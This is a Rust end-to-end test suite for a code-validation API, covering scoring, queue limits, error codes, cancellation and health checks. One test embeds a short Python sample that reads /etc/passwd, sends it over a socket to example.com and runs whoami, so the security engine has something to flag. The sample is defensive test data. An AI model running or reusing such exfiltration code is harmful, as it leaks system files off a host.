//! End-to-end endpoint tests: the literal acceptance scenarios driven over
//! the axum router with real engines and a scripted container runtime.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use http_body_util::BodyExt;
use tower::ServiceExt;

use kwality_application::orchestration::orchestrator::{Orchestrator, OrchestratorSettings};
use kwality_application::use_cases::submission_service::{AdmissionLimits, SubmissionService};
use kwality_domain::ports::{ContainerRuntime, Engine, ReportStore};
use kwality_domain::registry::EngineSettings;
use kwality_domain::value_objects::SecurityPolicy;
use kwality_infrastructure::config::LimitsConfig;
use kwality_infrastructure::engines::{SecurityScanEngine, StaticAnalysisEngine};
use kwality_infrastructure::sandbox::RuntimeEngine;
use kwality_infrastructure::store::MemoryReportStore;
use kwality_infrastructure::workspace::LocalMaterializer;
use kwality_server::{AppState, router};

use crate::fakes::ScriptedRuntime;

struct TestApp {
    router: Router,
    orchestrator: Arc<Orchestrator>,
    _tempdir: tempfile::TempDir,
}

fn app(max_workers: usize, queue_size: usize, runtime: ScriptedRuntime) -> TestApp {
    let tempdir = tempfile::tempdir().expect("tempdir");
    let store = Arc::new(MemoryReportStore::new());

    let mut engines: BTreeMap<String, Arc<dyn Engine>> = BTreeMap::new();
    engines.insert(
        "static".to_owned(),
        Arc::new(StaticAnalysisEngine::new()),
    );
    engines.insert(
        "security".to_owned(),
        Arc::new(SecurityScanEngine::new(
            SecurityPolicy::default(),
            vec![
                "secrets".to_owned(),
                "dangerous_calls".to_owned(),
                "sensitive_paths".to_owned(),
            ],
        )),
    );
    engines.insert(
        "runtime".to_owned(),
        Arc::new(RuntimeEngine::with_runtime(
            Arc::new(runtime) as Arc<dyn ContainerRuntime>,
            EngineSettings::default(),
        )),
    );

    let orchestrator = Arc::new(Orchestrator::new(
        OrchestratorSettings {
            max_workers,
            queue_size,
            grace: Duration::from_millis(500),
            ..OrchestratorSettings::default()
        },
        engines,
        Arc::new(LocalMaterializer::new(
            tempdir.path().to_path_buf(),
            LimitsConfig::default(),
        )),
        Arc::clone(&store) as Arc<dyn ReportStore>,
        Arc::clone(&store) as _,
    ));
    orchestrator.start().expect("starts");

    let service = Arc::new(SubmissionService::new(
        Arc::clone(&orchestrator),
        AdmissionLimits::default(),
    ));
    TestApp {
        router: router(AppState::new(service)),
        orchestrator,
        _tempdir: tempdir,
    }
}

async fn post_json(router: &Router, uri: &str, body: serde_json::Value) -> (StatusCode, serde_json::Value) {
    let response = router
        .clone()
        .oneshot(
            Request::builder()
                .method("POST")
                .uri(uri)
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(body.to_string()))
                .expect("request builds"),
        )
        .await
        .expect("router responds");
    let status = response.status();
    let bytes = response.into_body().collect().await.expect("body").to_bytes();
    let json = if bytes.is_empty() {
        serde_json::Value::Null
    } else {
        serde_json::from_slice(&bytes).expect("json body")
    };
    (status, json)
}

async fn get_json(router: &Router, uri: &str) -> (StatusCode, serde_json::Value) {
    let response = router
        .clone()
        .oneshot(
            Request::builder()
                .uri(uri)
                .body(Body::empty())
                .expect("request builds"),
        )
        .await
        .expect("router responds");
    let status = response.status();
    let bytes = response.into_body().collect().await.expect("body").to_bytes();
    let json = if bytes.is_empty() {
        serde_json::Value::Null
    } else {
        serde_json::from_slice(&bytes).expect("json body")
    };
    (status, json)
}

async fn await_terminal(router: &Router, task_id: &str, budget: Duration) -> serde_json::Value {
    let deadline = Instant::now() + budget;
    loop {
        let (status, report) = get_json(router, &format!("/api/v1/validate/{task_id}")).await;
        assert_eq!(status, StatusCode::OK);
        let state = report["status"].as_str().unwrap_or_default().to_owned();
        if matches!(state.as_str(), "completed" | "failed" | "timeout" | "canceled") {
            return report;
        }
        assert!(Instant::now() < deadline, "job did not finish in time");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}

fn inline_request(name: &str, files: &[(&str, &str)], engines: &[&str], timeout: &str) -> serde_json::Value {
    serde_json::json!({
        "name": name,
        "source": {
            "kind": "inline",
            "files": files.iter().map(|(path, content)| serde_json::json!({
                "path": path, "content": content
            })).collect::<Vec<_>>(),
        },
        "config": {
            "enabledEngines": engines,
            "totalTimeout": timeout,
        }
    })
}

const VALID_GO: &str = "package main\n\nimport (\n\t\"fmt\"\n\t\"net/http\"\n)\n\nfunc main() {\n\thttp.HandleFunc(\"/\", func(w http.ResponseWriter, r *http.Request) {\n\t\tfmt.Fprintln(w, \"ok\")\n\t})\n\thttp.ListenAndServe(\":8080\", nil)\n}\n";

#[tokio::test(flavor = "multi_thread")]
async fn valid_go_service_completes_above_fifty() {
    // build ok, entry ok
    let app = app(
        2,
        8,
        ScriptedRuntime::new(
            vec![ScriptedRuntime::ok_exec(), ScriptedRuntime::ok_exec()],
            Duration::ZERO,
        ),
    );

    let (status, receipt) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request(
            "go-service",
            &[("main.go", VALID_GO), ("go.mod", "module demo\n\ngo 1.22\n")],
            &["static", "runtime", "security"],
            "5m",
        ),
    )
    .await;
    assert_eq!(status, StatusCode::ACCEPTED);
    assert_eq!(receipt["status"], "pending");
    let task_id = receipt["taskId"].as_str().expect("task id").to_owned();

    let report = await_terminal(&app.router, &task_id, Duration::from_secs(10)).await;
    assert_eq!(report["status"], "completed");
    assert!(report["overallScore"].as_f64().expect("score") >= 50.0);
    for engine in ["static", "runtime", "security"] {
        assert!(
            report["engineResults"].get(engine).is_some(),
            "missing engine result for {engine}"
        );
    }
    let findings = report["findings"].as_array().cloned().unwrap_or_default();
    assert!(
        findings.iter().all(|f| f["severity"] != "critical"),
        "a clean service must not produce critical findings"
    );
    app.orchestrator.stop(Duration::from_secs(2)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn syntax_error_completes_below_fifty_with_high_finding() {
    // runtime build fails on the broken source
    let app = app(
        2,
        8,
        ScriptedRuntime::new(
            vec![ScriptedRuntime::failed_exec("main.go:4: syntax error")],
            Duration::ZERO,
        ),
    );

    let broken = "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hi\"\n";
    let (status, receipt) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request(
            "syntax-error",
            &[("main.go", broken)],
            &["static", "runtime"],
            "5m",
        ),
    )
    .await;
    assert_eq!(status, StatusCode::ACCEPTED);
    let task_id = receipt["taskId"].as_str().expect("task id").to_owned();

    let report = await_terminal(&app.router, &task_id, Duration::from_secs(10)).await;
    assert_eq!(report["status"], "completed", "static analysis still succeeds");
    assert!(report["overallScore"].as_f64().expect("score") < 50.0);
    let findings = report["findings"].as_array().cloned().unwrap_or_default();
    assert!(
        findings.iter().any(|f| {
            f["severity"] == "high"
                && (f["category"] == "syntax" || f["category"] == "build")
        }),
        "expected a high syntax/build finding"
    );
    app.orchestrator.stop(Duration::from_secs(2)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn malicious_python_scores_below_thirty() {
    let app = app(2, 8, ScriptedRuntime::new(Vec::new(), Duration::ZERO));

    let malicious = concat!(
        "import socket, subprocess\n",
        "data = open('/etc/passwd').read()\n",
        "s = socket.create_connection(('example.com', 80))\n",
        "s.send(data.encode())\n",
        "subprocess.run(['whoami'])\n",
    );
    let (status, receipt) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request("malicious", &[("main.py", malicious)], &["security"], "2m"),
    )
    .await;
    assert_eq!(status, StatusCode::ACCEPTED);
    let task_id = receipt["taskId"].as_str().expect("task id").to_owned();

    let report = await_terminal(&app.router, &task_id, Duration::from_secs(10)).await;
    assert_eq!(report["status"], "completed");
    assert!(report["overallScore"].as_f64().expect("score") < 30.0);

    let findings = report["findings"].as_array().cloned().unwrap_or_default();
    for category in ["security.file_access", "security.network", "security.exec"] {
        assert!(
            findings.iter().any(|f| {
                f["category"] == category
                    && (f["severity"] == "high" || f["severity"] == "critical")
            }),
            "expected a high/critical finding in {category}"
        );
    }
    app.orchestrator.stop(Duration::from_secs(2)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn queue_full_returns_429() {
    // one worker, queue of one, 3s entry process
    let app = app(
        1,
        1,
        ScriptedRuntime::new(
            vec![
                ScriptedRuntime::ok_exec(),
                ScriptedRuntime::ok_exec(),
                ScriptedRuntime::ok_exec(),
            ],
            Duration::from_secs(3),
        ),
    );

    let body = inline_request(
        "burst",
        &[("main.py", "print('x')\n")],
        &["runtime"],
        "1m",
    );
    let (first, _) = post_json(&app.router, "/api/v1/validate/codebase", body.clone()).await;
    assert_eq!(first, StatusCode::ACCEPTED);
    tokio::time::sleep(Duration::from_millis(150)).await;
    let (second, _) = post_json(&app.router, "/api/v1/validate/codebase", body.clone()).await;
    assert_eq!(second, StatusCode::ACCEPTED);
    let (third, error) = post_json(&app.router, "/api/v1/validate/codebase", body).await;
    assert_eq!(third, StatusCode::TOO_MANY_REQUESTS);
    assert!(error["error"].as_str().unwrap_or_default().contains("queue"));

    app.orchestrator.stop(Duration::from_secs(1)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_and_unknown_requests_map_to_4xx() {
    let app = app(1, 4, ScriptedRuntime::new(Vec::new(), Duration::ZERO));

    // empty name fails DTO validation
    let (status, _) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request("", &[("main.py", "print(1)\n")], &["static"], "1m"),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // unknown engine
    let (status, _) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request("x", &[("main.py", "print(1)\n")], &["nope"], "1m"),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // unknown job id
    let (status, _) = get_json(
        &app.router,
        "/api/v1/validate/00000000-0000-4000-8000-000000000000",
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // unparseable job id is also not found
    let (status, _) = get_json(&app.router, "/api/v1/validate/not-a-uuid").await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    app.orchestrator.stop(Duration::from_secs(1)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn cancel_of_terminal_job_conflicts() {
    let app = app(1, 4, ScriptedRuntime::new(Vec::new(), Duration::ZERO));

    let (_, receipt) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request("done", &[("main.py", "print(1)\n")], &["static"], "1m"),
    )
    .await;
    let task_id = receipt["taskId"].as_str().expect("task id").to_owned();
    await_terminal(&app.router, &task_id, Duration::from_secs(10)).await;

    let response = app
        .router
        .clone()
        .oneshot(
            Request::builder()
                .method("DELETE")
                .uri(format!("/api/v1/validate/{task_id}"))
                .body(Body::empty())
                .expect("request builds"),
        )
        .await
        .expect("router responds");
    assert_eq!(response.status(), StatusCode::CONFLICT);

    app.orchestrator.stop(Duration::from_secs(1)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn list_returns_summaries() {
    let app = app(1, 4, ScriptedRuntime::new(Vec::new(), Duration::ZERO));

    let (_, receipt) = post_json(
        &app.router,
        "/api/v1/validate/codebase",
        inline_request("listed", &[("main.py", "print(1)\n")], &["static"], "1m"),
    )
    .await;
    let task_id = receipt["taskId"].as_str().expect("task id").to_owned();
    await_terminal(&app.router, &task_id, Duration::from_secs(10)).await;

    let (status, list) = get_json(&app.router, "/api/v1/validate?status=completed").await;
    assert_eq!(status, StatusCode::OK);
    let rows = list.as_array().expect("array");
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["name"], "listed");

    app.orchestrator.stop(Duration::from_secs(1)).await.expect("stops");
}

#[tokio::test(flavor = "multi_thread")]
async fn health_reports_version_and_status() {
    let app = app(1, 4, ScriptedRuntime::new(Vec::new(), Duration::ZERO));
    let (status, body) = get_json(&app.router, "/health").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "healthy");
    assert!(body["version"].as_str().is_some_and(|v| !v.is_empty()));
    assert!(body["timestamp"].as_str().is_some());
    app.orchestrator.stop(Duration::from_secs(1)).await.expect("stops");
}
